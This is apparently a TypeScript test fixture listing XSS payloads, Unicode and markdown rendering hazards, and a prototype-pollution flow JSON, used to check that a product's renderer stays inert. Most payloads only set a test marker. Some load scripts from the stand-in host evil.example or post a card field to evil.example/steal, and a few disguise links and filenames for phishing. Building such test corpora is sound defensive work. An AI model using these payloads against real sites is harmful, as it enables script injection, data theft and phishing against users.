// Hostile content for the security tests: XSS payloads and text that breaks naive
// renderers. Every payload that could run code sets `window.__pwned`, and every URL
// points at `evil.example` (or `data:`/`javascript:`), so a test can watch for both:
// nothing may run, and no request may go to any URL in here.

/** The host every URL in the corpus points at; a request to it means something rendered as HTML. */
export const EVIL_HOST = 'evil.example';

export interface HostilePayload {
  name: string;
  text: string;
}

/** Payloads short enough for a customer message (≤ 4000 characters), without leading/trailing spaces. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  { name: 'script tag', text: '<script>window.__pwned = "script"</script>' },
  { name: 'script src', text: `<script src="https://${EVIL_HOST}/x.js"></script>` },
  { name: 'img onerror', text: '<img src=x onerror="window.__pwned=\'img\'">' },
  { name: 'img remote', text: `<img src="https://${EVIL_HOST}/pixel.gif">` },
  { name: 'svg onload', text: '<svg onload="window.__pwned=\'svg\'"><circle r="10"/></svg>' },
  { name: 'svg animate', text: '<svg><animate onbegin="window.__pwned=\'animate\'" attributeName="x" dur="1s"/></svg>' },
  { name: 'svg script', text: '<svg><script>window.__pwned="svg-script"</script></svg>' },
  { name: 'body onload', text: '<body onload="window.__pwned=\'body\'">' },
  { name: 'details ontoggle', text: '<details open ontoggle="window.__pwned=\'details\'">x</details>' },
  { name: 'javascript: link', text: '<a href="javascript:window.__pwned=\'link\'">click me</a>' },
  { name: 'javascript: URL alone', text: 'javascript:window.__pwned="url"' },
  { name: 'JaVaScRiPt with tab and entity', text: '<a href="jav&#x09;ascript:window.__pwned=1">x</a> java\tscript:alert(1)' },
  { name: 'markdown javascript link', text: '[click](javascript:window.__pwned="md")' },
  { name: 'markdown image', text: `![x](https://${EVIL_HOST}/md.png)` },
  { name: 'data: URL', text: 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+' },
  { name: 'iframe data:', text: '<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>' },
  { name: 'object / embed', text: `<object data="https://${EVIL_HOST}/x.swf"></object><embed src="https://${EVIL_HOST}/y.swf">` },
  { name: 'style injection', text: '<style>*{display:none!important} body{background:url(https://evil.example/css.png)}</style>' },
  { name: 'link stylesheet', text: `<link rel="stylesheet" href="https://${EVIL_HOST}/x.css">` },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/">` },
  { name: 'base href', text: `<base href="https://${EVIL_HOST}/">` },
  { name: 'form', text: `<form action="https://${EVIL_HOST}/steal"><input name="card" autofocus onfocus="window.__pwned='form'"></form>` },
  { name: 'attribute breakout', text: '"><img src=x onerror=window.__pwned=1>\'><script>window.__pwned=2</script>' },
  { name: 'textarea / title breakout', text: '</textarea></title></style><script>window.__pwned="breakout"</script>' },
  { name: 'html comment', text: '<!--<img src="--><img src=x onerror=window.__pwned=1//">' },
  { name: 'mXSS (math/style)', text: '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>' },
  { name: 'noscript mXSS', text: '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">' },
  { name: 'entity-encoded', text: '&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;img src=x onerror=window.__pwned=1&#62;' },
  { name: 'decimal / hex entities', text: '&#x3C;svg onload=window.__pwned=1&#x3E; &#0000060;script&#0000062;' },
  { name: 'unicode-escaped', text: '\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e %3Cscript%3E' },
  { name: 'fullwidth brackets', text: '＜script＞window.__pwned=1＜/script＞' },
  { name: 'template injection', text: '{{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1} <%= 7*7 %> {order}' },
  { name: 'lit-style markers', text: '<!--?lit$123456$--><?lit$1$>' },
  { name: 'CSS expression', text: '<div style="width: expression(window.__pwned=1); background:url(javascript:window.__pwned=1)">x</div>' },
  { name: 'RTL override (U+202E)', text: 'invoice\u202Efdp.exe — please open \u202Egnp.exe' },
  { name: 'bidi isolates and marks', text: '\u2067مرحبا\u2069 \u200Fabc\u200E \u061C' },
  { name: 'zero-width characters', text: 'pa\u200Bss\u200Cwo\u200Drd\u2060 \uFEFFhidden' },
  { name: 'combining marks (zalgo)', text: 'Z\u0335\u0322\u031B\u032F\u0347a\u0337l\u0336g\u0335o\u0334' + '\u0301'.repeat(200) },
  { name: 'emoji and astral', text: '👩🏽‍💻🏳️‍🌈 𝕏 \uD83D\uDE00' },
  { name: 'lone surrogate', text: 'broken \uD800 surrogate' },
  { name: 'very long word (3,900 characters)', text: 'A'.repeat(3900) },
  // Markdown (agent text renders the safe subset): every one of these must stay inert.
  { name: 'markdown data: link', text: '[open](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)' },
  {
    name: 'markdown entity-encoded scheme',
    text: '[a](&#106;avascript:window.__pwned=1) [b](javascript&colon;window.__pwned=1) [c](%6Aavascript:window.__pwned=1)',
  },
  { name: 'markdown autolink javascript', text: '<javascript:window.__pwned=1> <vbscript:msgbox(1)>' },
  { name: 'markdown link hiding its host', text: `[https://your-bank.example](https://${EVIL_HOST}/login) [pay\u202Egnp.here](https://${EVIL_HOST}/x)` },
  { name: 'markdown code with HTML', text: '`<img src=x onerror=window.__pwned=1>`\n\n```html\n<script>window.__pwned="fence"</script>\n```' },
  { name: 'nested emphasis bomb', text: '*_'.repeat(1900) + 'x' },
  { name: 'bracket bomb', text: '*['.repeat(1900) + '](' },
  { name: 'many lines', text: Array.from({ length: 200 }, (_, i) => `line ${i}`).join('\n') },
];

/** One megabyte of text: refused by the core as a customer message (`input/too-long`). */
export const ONE_MEGABYTE = 'x'.repeat(1024 * 1024);

/** Short payloads, for places with tight limits (option labels ≤ 120 characters). */
export const SHORT_PAYLOADS: readonly HostilePayload[] = HOSTILE_PAYLOADS.filter((p) => p.text.length <= 120);

/**
 * A flow (JSON, as a product team would ship it) whose every text is hostile, including
 * step ids like `__proto__` and `constructor`.
 */
export function hostileFlowJson(): string {
  const s = (i: number): string => SHORT_PAYLOADS[i % SHORT_PAYLOADS.length]!.text;
  return JSON.stringify({
    id: '<script>window.__pwned="flow"</script>',
    version: 1,
    start: 'hello',
    steps: {
      hello: { type: 'say', text: s(0), next: '__proto__' },
      // A computed key: an own step named __proto__ (a plain `__proto__:` would set the prototype).
      ['__proto__']: { type: 'say', text: s(2), next: 'constructor' },
      constructor: {
        type: 'choose',
        prompt: s(4),
        options: [
          { id: 'a', label: s(9), description: s(5), next: 'done' },
          { id: '<img src=x onerror=window.__pwned=1>', label: s(14), next: 'done' },
          { id: 'c', label: s(30), next: 'done' },
        ],
      },
      done: { type: 'recap', understood: s(24), done: [s(11), s(20)], nextStep: { who: s(6), what: s(31), when: s(26) }, resolved: false },
    },
  });
}
